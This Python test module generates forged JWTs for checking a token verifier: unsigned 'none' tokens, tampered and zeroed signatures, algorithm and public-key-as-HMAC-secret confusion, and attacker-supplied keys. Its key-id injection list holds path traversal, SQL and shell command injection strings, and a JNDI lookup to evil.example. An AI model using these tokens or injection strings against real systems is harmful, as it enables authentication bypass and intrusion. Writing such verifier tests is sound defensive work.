"""Tokens that nobody who has the key has signed, or that say so in a way of their own."""

import hmac
import json
from base64 import b64encode
from collections.abc import Iterator
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.parts.issuer import Pair, pair
from tests.parts.signing import segment, swapped

Attack = tuple[str, str]

_NONE: Final = ("none", "None", "NONE", "nOnE", "none ", "", "NULL", "HS0")
_OTHERS: Final = (
    *("HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512"),
    *(
        "ES256K",
        "EdDSA",
        "Ed25519",
        "Ed448",
        "RSA1_5",
        "RSA-OAEP",
        "dir",
        "A256GCM",
        "PBES2-HS256+A128KW",
        "eddsa",
        "hs256",
    ),
)
# What a key id, or a member that names a key, is made of where somebody hopes that it is opened, run or asked.
_INJECTIONS: Final = (
    *("../../../../dev/null", "/proc/self/environ", "/etc/passwd", "file:///dev/null", "C:\\boot.ini"),
    *(
        "' UNION SELECT 'secret' --",
        "' OR '1'='1",
        "x'; DROP TABLE tasks; --",
        '{"$gt": ""}',
        "${jndi:ldap://evil.example/a}",
    ),
    *("| whoami", "`id`", "$(id)", "first\0", "first\n", "\r\nX-Injected: 1", "first ", " first", "FIRST", "%66irst"),
    *(
        "http://evil.example/jwks",
        "//evil.example",
        "0",
        "true",
        "null",
        "",
        "k" * 4000,
        "\ud800",
        "__proto__",
        "constructor",
    ),
)
ODD: Final[list[Any]] = [1, True, [], {}]
_ZEROES: Final = {"EdDSA": 64, "ES256": 64, "ES512": 132, "RS256": 256, "PS256": 256, "HS256": 32}


def unsigned(claims: str, kid: str) -> Iterator[Attack]:
    """No signature, under every name that was ever taken for none."""
    for algorithm in _NONE:
        for signature in ("", ".", ".AAAA"):
            token = f"{segment(json.dumps({'alg': algorithm, 'kid': kid}))}.{segment(claims)}{signature}"
            yield f"{algorithm!r}, signed with {signature!r}", token


def signatures(token: str, algorithm: str) -> Iterator[Attack]:
    """A good token whose signature has been changed, cut, emptied, or taken from somewhere else."""
    good = token.rpartition(".")[2]
    for position in range(0, len(good) - 2, max(1, len(good) // 12)):
        other = "A" if good[position] != "A" else "B"
        yield f"another letter at {position}", swapped(token, 2, good[:position] + other + good[position + 1 :])
    size = _ZEROES[algorithm]
    for name, raw in {
        "zeroes": b"\0" * size,
        "ones": b"\xff" * size,
        "one byte": b"\0",
        "twice": b"\1" * 2 * size,
    }.items():
        yield f"signature of {name}", swapped(token, 2, segment(raw))
    for name, text in {
        "cut": good[:-4],
        "longer": good + "AAAA",
        "repeated": good + good,
        "padded": good + "=",
    }.items():
        yield f"signature {name}", swapped(token, 2, text)
    for part, name in enumerate(("header", "payload", "signature")):
        yield f"empty {name}", swapped(token, part, "")
        yield f"another {name}", swapped(token, part, segment('{"sub":"bob"}'))


def elliptic(token: str, size: int) -> Iterator[Attack]:
    """Signatures that lax implementations of ECDSA have taken: zero, out of range, in another form."""
    order = 2 ** (8 * size) - 1
    for r, s in ((0, 0), (0, 1), (1, 0), (order, order), (1, 1)):
        yield f"r {r % 97}, s {s % 97}", swapped(token, 2, segment(r.to_bytes(size, "big") + s.to_bytes(size, "big")))
    yield "DER", swapped(token, 2, segment(encode_dss_signature(1, 1)))
    assert decode_dss_signature(encode_dss_signature(1, 1)) == (1, 1)


def algorithms(claims: str, signer: Pair) -> Iterator[Attack]:
    """Well signed by the key's other half, and said to be signed with anything else."""
    for algorithm in _OTHERS:
        if algorithm != signer.algorithm:
            yield f"alg {algorithm}", signer.sign_text(json.dumps({"alg": algorithm, "kid": signer.kid}), claims)
    for odd in (None, 1, True, ["EdDSA"], {"EdDSA": 1}, [signer.algorithm]):
        yield f"alg {odd}", signer.sign_text(json.dumps({"alg": odd, "kid": signer.kid}), claims)


def confusions(claims: str, signer: Pair) -> Iterator[Attack]:
    """The public key, which everybody has, taken for a secret."""
    public = signer.private.public_key()
    forms: dict[str, bytes] = {
        "PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(signer.public).encode(),
        "compact JWK": json.dumps(signer.public, separators=(",", ":")).encode(),
        "kid": signer.kid.encode(),
        "nothing": b"",
        "null": b"null",
        "zeroes": b"\0" * 32,
    }
    forms |= {f"{name} in base64": b64encode(key) for name, key in forms.items()}
    forms |= {
        f"{name} without its last newline": key.rstrip(b"\n") for name, key in forms.items() if key.endswith(b"\n")
    }
    forms |= {f"member {name}": str(value).encode() for name, value in signer.public.items()}
    for name, key in forms.items():
        for number in (256, 384, 512):
            header = json.dumps({"alg": f"HS{number}", "kid": signer.kid})
            signed = f"{segment(header)}.{segment(claims)}"
            yield f"HS{number} with {name}", f"{signed}.{segment(hmac.digest(key, signed.encode(), f'sha{number}'))}"


def headers(claims: str, algorithm: str, kid: str) -> Iterator[Attack]:
    """Signed with a key of the attacker's, which the header brings along or says where to find."""
    mallory = pair(algorithm, "mallory")
    here: dict[str, Any] = {
        "jwk": mallory.public,
        "jku": "http://127.0.0.1:1/jwks",
        "x5u": "http://127.0.0.1:1/cert.pem",
        "x5c": [b64encode(b"certificate").decode()],
        "x5t": "AAAA",
        "keys": [mallory.public],
        "key": mallory.public,
        "iss": "http://evil.example",
        "epk": mallory.public,
        "p2c": 2**31,
    }
    for name, value in here.items():
        for named in (kid, mallory.kid):
            yield (
                f"{name}, kid {named}",
                mallory.sign_text(json.dumps({"alg": algorithm, "kid": named, name: value}), claims),
            )
    for injection in _INJECTIONS:
        yield f"kid {injection[:30]!a}", mallory.sign_text(json.dumps({"alg": algorithm, "kid": injection}), claims)


def odd_headers(claims: str, signer: Pair) -> Iterator[Attack]:
    """Well signed, with a header that changes the meaning of the rest, or means another kind of token."""
    members: dict[str, list[Any]] = {
        "crit": [["exp"], ["b64"], "b64", None, *ODD],
        "b64": [False, True, None, "false"],
        "zip": ["DEF", "", None],
        "typ": ["better-auth.session-cache+jwt", "id+jwt", "logout+jwt", "dpop+jwt", "JWE", *ODD],
        "kid": [None, [signer.kid], {signer.kid: 1}, *ODD],
    }
    for name, value in ((name, value) for name, values in members.items() for value in values):
        header = json.dumps({"alg": signer.algorithm, "kid": signer.kid, name: value})
        yield f"{name} {value}", signer.sign_text(header, claims)
    yield "no header", signer.sign_text("", claims)
    for text in ("[]", "null", '"EdDSA"', "1", "{", '{"alg":"EdDSA"', "\ufeff{}", "[" * 4000):
        yield f"header {text[:20]!a}", signer.sign_text(text, claims)
